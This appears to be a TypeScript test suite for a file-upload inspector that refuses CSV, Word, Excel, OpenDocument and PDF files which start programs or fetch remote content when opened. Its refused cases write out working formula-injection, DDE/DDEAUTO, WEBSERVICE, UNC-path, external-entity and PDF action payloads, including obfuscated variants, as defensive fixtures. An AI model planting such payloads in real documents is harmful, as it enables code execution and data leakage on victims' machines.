import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ProblemError } from '#platform';
import { office, openDocument, pdf, pdfWithPacked, relations } from '../../../../test/attachments/files.js';
import { inspectFile } from './inspect-file.js';

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'test-reaching-out-'));
});
afterAll(() => rm(folder, { recursive: true, force: true }));

/** `taken`, or why a file is refused. */
async function told(content: Buffer | string, name: string): Promise<string> {
  const path = join(folder, 'file');
  await writeFile(path, content);
  try {
    await inspectFile(path, name);
    return 'taken';
  } catch (error) {
    if (!(error instanceof ProblemError)) throw error;
    return error.problem.detail;
  }
}

/** A Word file with a further part that says this. */
const word = (said: string): Buffer =>
  office('docx', [{ name: 'word/footnotes.xml', content: `<w:footnotes>${said}</w:footnotes>` }]);
const sheet = (formula: string): Buffer =>
  office('xlsx', [
    { name: 'xl/worksheets/sheet1.xml', content: `<worksheet><c><f>${formula}</f></c></worksheet>` },
  ]);
const ods = (said: string): Buffer =>
  openDocument('spreadsheet', [{ name: 'styles.xml', content: `<office:a>${said}</office:a>` }]);
const odt = (said: string): Buffer =>
  openDocument('text', [{ name: 'styles.xml', content: `<office:a>${said}</office:a>` }]);
const link = (target: string): Buffer =>
  office('docx', [
    relations('word/document.xml', `Type="OFFICE/hyperlink" Target="${target}" TargetMode="External"`),
  ]);
const field = (...runs: readonly string[]): Buffer =>
  word(
    `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${runs
      .map((run) => `<w:r><w:instrText xml:space="preserve">${run}</w:instrText></w:r>`)
      .join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`,
  );
const object = (said: string): Buffer => pdf(`3 0 obj\n<<${said}>>\nendobj\n`);

const CALC = "cmd|'/C calc'!A0";

describe('a file that runs or fetches something when it is opened is refused', () => {
  it.each([
    ['a cell with a comma before what starts a program', `1,"=SUM(1,1)*${CALC}"\n`, 'a.csv'],
    ['one with more than 200 characters before', `1,=1${'+1'.repeat(300)}+${CALC}\n`, 'a.csv'],
    ['one far from its beginning', `=1${'+1'.repeat(100_000)}+${CALC}\n`, 'a.csv'],
    ['one over several lines', `1,"=1+\ncmd|'/C\ncalc'!A0"\n`, 'a.csv'],
    ['one that a quotation mark elsewhere hides', `a"b,"=1+\n${CALC}"\n`, 'a.csv'],
    ['one after a semicolon', `Widgets;=${CALC}\n`, 'a.csv'],
    ['one that begins with a wide sign', `1,＝${CALC}\n`, 'a.csv'],
    ['a cell that asks a page', '1,"=A1&WEBSERVICE(""http://a.example/""&A2)"\n', 'a.csv'],
    ['a field DDEAUTO', field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'), 'a.docx'],
    ['a field spread over runs', field(' D', 'DE', 'AUTO c:\\\\cmd.exe "/k calc"'), 'a.docx'],
    ['a field DDE of one word', field('DDE', ' Excel'), 'a.docx'],
    ['a field behind a comment', field('DD<!-- x -->E cmd'), 'a.docx'],
    ['a field in characters of XML', field('&#68;DE<![CDATA[AUTO]]> cmd'), 'a.docx'],
    ['a picture from elsewhere', field(' INCLUDEPICTURE "http://a.example/x.png" \\d '), 'a.docx'],
    ['a link to another file', field(' LINK Excel.Sheet "\\\\\\\\a.example\\\\x.xlsx"'), 'a.docx'],
    ['a simple field', word('<w:fldSimple w:instr=" INCLUDETEXT &quot;x&quot; "/>'), 'a.docx'],
    [
      'a picture of an older kind',
      word('<v:shape><v:imagedata src="http://a.example/x.png"/></v:shape>'),
      'a.docx',
    ],
    ['a hyperlink to a file', link('file:///C:/Windows/calc.exe'), 'a.docx'],
    ['a hyperlink to another machine', link('\\\\a.example\\share\\x'), 'a.docx'],
    ['a hyperlink that runs', link('search-ms:query=x'), 'a.docx'],
    ['a part that cannot be read', word('<w:t <b>'), 'a.docx'],
    ['a part with a document type', word('<!DOCTYPE a [<!ENTITY b "c">]>'), 'a.docx'],
    ['a part with a thing of another’s', word('<w:t>&b;</w:t>'), 'a.docx'],
    ['connections', office('xlsx', [{ name: 'xl/connections.xml', content: '<connections/>' }]), 'a.xlsx'],
    [
      'connections by another name',
      office(
        'xlsx',
        [{ name: 'xl/other.xml', content: '<a/>' }],
        '<Override PartName="/xl/other.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/>',
      ),
      'a.xlsx',
    ],
    ['a formula that starts a program', sheet(CALC), 'a.xlsx'],
    ['one behind a sheet with a quotation mark', sheet(`'a&quot;'!A1+cmd|'&quot;/C calc'!A0`), 'a.xlsx'],
    ['a formula that asks a page', sheet('_xlfn.WEBSERVICE("http://a.example/"&amp;A1)'), 'a.xlsx'],
    ['a formula that leads to a file', sheet('HYPERLINK("\\\\a.example\\x","y")'), 'a.xlsx'],
    [
      'a name that starts a program',
      office('xlsx', [
        {
          name: 'xl/workbook.xml',
          content: `<workbook><definedName name="x">${CALC}</definedName></workbook>`,
        },
      ]),
      'a.xlsx',
    ],
    [
      'a formula that asks another program',
      ods('<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;x&quot;;&quot;y&quot;)"/>'),
      'a.ods',
    ],
    ['one in words of another program', ods(`<table:table-cell table:formula="msoxl:=${CALC}"/>`), 'a.ods'],
    [
      'a cell of another file',
      ods(`<table:table-cell table:formula="of:=['file:///C:/x.ods'#$Sheet1.A1]"/>`),
      'a.ods',
    ],
    ['a table from elsewhere', ods('<table:table-source xlink:href="../x.ods"/>'), 'a.ods'],
    ['a connection to another program', odt('<text:dde-connection-decl office:name="x"/>'), 'a.odt'],
    ['a picture on a page', odt('<draw:image xlink:href="http://a.example/x.png"/>'), 'a.odt'],
    ['a picture beside the document', odt('<draw:image xlink:href="../x.png"/>'), 'a.odt'],
    ['an object in a file', odt('<draw:object xlink:href="file://a.example/x"/>'), 'a.odt'],
    ['a section of another file', odt('<text:section-source xlink:href="x.odt"/>'), 'a.odt'],
    [
      'a hyperlink to a file of OpenDocument',
      odt('<text:a xlink:href="file:///C:/x.exe">a</text:a>'),
      'a.odt',
    ],
    ['a script behind a hyperlink', odt('<text:a xlink:href="vnd.sun.star.script:x">a</text:a>'), 'a.odt'],
    ['a link to another PDF', object('/S/GoToR/F(x.pdf)'), 'a.pdf'],
    ['a form that is sent', object('/S/SubmitForm/F(http://a.example/)'), 'a.pdf'],
    ['a form that is filled in from elsewhere', object('/S/ImportData/F(x.fdf)'), 'a.pdf'],
    ['a file on another machine', object('/Type/Filespec/F(\\\\\\\\a.example\\\\x)'), 'a.pdf'],
    ['one in numbers', object('/Type/Filespec/UF<FEFF005C005C0061>'), 'a.pdf'],
    ['an address of a file', object('/S/URI/URI(file:///C:/x.exe)'), 'a.pdf'],
    ['one in a packed list', pdfWithPacked('<</S/GoToR/F(x.pdf)>>'), 'a.pdf'],
  ])('%s', async (_what, content, name) => {
    expect(await told(content, name)).toMatch(
      /fetches something|starts a program|cannot be checked|macros|opens another file|sends or fetches|another machine/,
    );
  });
});

describe('a file that only leads somewhere when it is clicked, or says such a thing, is taken', () => {
  it.each([
    ['a table', 'name,tel\n-5,"A|B, and so on!"\nYes|No!,@b\n=SUM(A1:A2),1\n', 'a.csv'],
    ['notes', '- item | other\n- say hello! And go on\nWe register (all of them)\n', 'a.txt'],
    ['a hyperlink to a page', link('https://www.gov.uk/?a=1&amp;b=2'), 'a.docx'],
    ['one to an address of email', link('mailto:someone@example.gov.uk'), 'a.docx'],
    [
      'ordinary fields',
      field(' HYPERLINK "https://www.gov.uk/" \\o "LINK DATABASE" ', ' PAGE ', 'TOC \\o "1-3" '),
      'a.docx',
    ],
    [
      'words about fields, and a fraction',
      word('<!-- DDE --><w:t>DDEAUTO &amp; INCLUDEPICTURE</w:t><m:f><m:t>|x|</m:t></m:f>'),
      'a.docx',
    ],
    ['ordinary formulas', sheet("IF('A|B'!A1=&quot;a|b!c&quot;,IMAGES,SUM(A1:A3))"), 'a.xlsx'],
    ['a formula that leads to a page', sheet('HYPERLINK(&quot;https://www.gov.uk/&quot;)'), 'a.xlsx'],
    [
      'an ordinary table of OpenDocument',
      ods(
        '<table:table-cell table:formula="of:=SUM({1;2|3;4})" office:value-type="a" calcext:value-type="b"/>',
      ),
      'a.ods',
    ],
    [
      'hyperlinks and pictures of OpenDocument',
      odt(
        '<text:a xlink:href="https://www.gov.uk/">a</text:a><text:a xlink:href="#b">b</text:a><draw:image xlink:href="Pictures/a.png"/><draw:object xlink:href="./Object 1"/><meta:template xlink:href="file:///C:/normal.ott"/>',
      ),
      'a.odt',
    ],
    ['an address in a PDF', object('/S/URI/URI(https://www.gov.uk/)'), 'a.pdf'],
    [
      'a part larger than a piece',
      word(`<w:t a="${'>'.repeat(200_000)}">${'&amp;text '.repeat(50_000)}</w:t>`),
      'a.docx',
    ],
  ])('%s', async (_what, content, name) => {
    expect(await told(content, name)).toBe('taken');
  });
});
